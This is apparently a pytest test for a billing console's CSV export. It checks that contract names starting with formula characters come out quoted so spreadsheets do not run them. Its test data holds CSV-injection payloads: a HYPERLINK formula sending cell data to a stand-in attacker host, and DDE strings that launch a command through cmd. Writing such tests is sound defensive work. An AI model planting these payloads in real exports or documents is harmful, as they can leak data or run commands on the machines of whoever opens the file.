"""Scenario 113: exported cells a spreadsheet would run as formulas are quoted."""

import csv
import io

import pytest

from cabinet import accounts, payments
from cabinet.models import ModuleInstance
from tests.helpers import ADMIN, console_login, in_app

pytestmark = pytest.mark.fault

FORMULAS = (
    '=HYPERLINK("http://attacker.test/?"&A1,"Открыть")',
    "+7(999)123-45-67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def test_113_formula_cells_of_the_csv_export_are_quoted(make_world, figure):
    world = make_world()
    with in_app(world.app):
        accounts.add_operator(*ADMIN, admin=True)
        instance = ModuleInstance.by_code("isp")
        for n, name in enumerate(FORMULAS):
            contract = accounts.add_contract(f"77{n}", name, "pw-pw", None, instance)
            payments.start_payment(contract, 10000, "u", "u")
    admin = world.app.test_client()
    console_login(admin, ADMIN)
    body = admin.get("/console/monitor.csv?instance=isp").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    names = {row[3] for row in rows[1:]}
    live = [name for name in names if name.startswith(("=", "+", "-", "@", "\t"))]
    figure(113, "exported cells a spreadsheet runs as formulas", len(live), 0)
    # (a name is stored stripped: the tab is gone, its formula is not)
    assert live == [] and {"'" + name.strip() for name in FORMULAS} <= names
    amounts = [row[6] for row in rows[1:]]
    assert all(not amount.startswith("'") for amount in amounts)  # numbers stay
